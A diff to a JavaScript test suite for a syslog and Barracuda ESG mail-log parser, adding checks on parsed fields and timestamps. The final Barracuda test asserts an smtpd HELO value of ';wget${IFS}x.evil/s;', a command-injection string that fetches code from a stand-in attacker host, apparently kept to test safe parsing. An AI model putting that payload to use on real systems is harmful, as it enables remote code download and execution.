@@ -22,6 +22,12 @@ test('RFC 3164 year comes from the file time; a later month means the previous y
   assert.equal(parseSyslogLine('Dec 31 23:59:59 h p: x', yc)?.time, Date.UTC(2023, 11, 31, 23, 59, 59));
   assert.equal(parseSyslogLine('Apr 11 11:24:37 2012 h p[1]: x', yc)?.time, Date.UTC(2012, 3, 11, 11, 24, 37));
   assert.equal(parseSyslogLine('not syslog at all', yc), undefined);
+  const wire = parseSyslogLine('<23>scan[9097]: user[192.168.0.1] 1366829265-05f5cb11fe1b9a50001-wlKzrS 1366829265 1366829266 SCAN ENC a@x b@y - 2 70 example.org SZ:3117 SUBJ: Hi', yc);
+  assert.equal(wire?.program, 'scan');
+  assert.equal(wire?.facility, 2);
+  assert.equal(wire?.time, undefined);
+  const hp = parseSyslogLine('2024-05-01T10:00:00.123456+02:00 mx postfix/smtpd[1]: connect from a[1.2.3.4]', yc);
+  assert.equal(hp?.time, Date.UTC(2024, 4, 1, 8, 0, 0, 123));
   assert.equal(parseSyslogLine('Mar 99 10:00:00 h p: x', yc), undefined);
 });
 
@@ -100,9 +106,19 @@ test('RFC 5424 with structured data; RFC 3339 traditional lines; broken SD repor
 test('Barracuda ESG: RECV, SCAN (attachment, subject, size, encrypted), SEND, smtpd HELO', async () => {
   const { events, ctx } = await readAll(withMtime('barracuda-esg.log', new Date('2023-06-01T00:00:00Z')));
   assert.equal(ctx.errorCount, 0);
-  assert.equal(events.length, 5);
+  assert.equal(events.length, 6);
   for (const e of events) assert.deepEqual(e.logsource, { product: 'barracuda', service: 'esg' });
-  const [recv, scan, send, scan2, smtpd] = events.map((e) => e.fields);
+  const [recv, scan, send, scan2, smtpd, recv2] = events.map((e) => e.fields);
+  // SEND lines have no client and 0 0 times; RECV with an unknown client address and no sender
+  assert.equal(send.message_id, '1709287205-0512cb11fe1b9a50002-aBcDeF');
+  assert.equal(send.encrypted, true);
+  assert.equal(send.action_name, 'Delivered');
+  assert.equal('client_ip' in send, false);
+  assert.equal(recv2.client_host, 'unknown');
+  assert.equal('client_ip' in recv2, false);
+  assert.equal('sender' in recv2, false);
+  assert.equal(recv2.action_name, 'Deferred');
+  assert.equal(recv2.reason_name, 'Rate Control');
   assert.equal(events[0].time, Date.UTC(2023, 2, 1, 10, 0, 1));
   assert.equal(recv.service, 'RECV');
   assert.equal(recv.client_ip, '203.0.113.99');
@@ -117,7 +133,7 @@ test('Barracuda ESG: RECV, SCAN (attachment, subject, size, encrypted), SEND, sm
   assert.equal(scan.size, 3117);
   assert.equal(scan.score, 0.1);
   assert.equal(send.queue_id, '3DA4E1F36');
-  assert.match(String(send.delivery_status), /^250 2\.0\.0 Ok/);
+  assert.match(String(send.delivery_status), /^250 2\.6\.0 <a1b2@partner\.example> /);
   assert.equal(scan2.encrypted, true);
   assert.equal(scan2.reason, 70);
   assert.equal(smtpd.helo, ';wget${IFS}x.evil/s;');
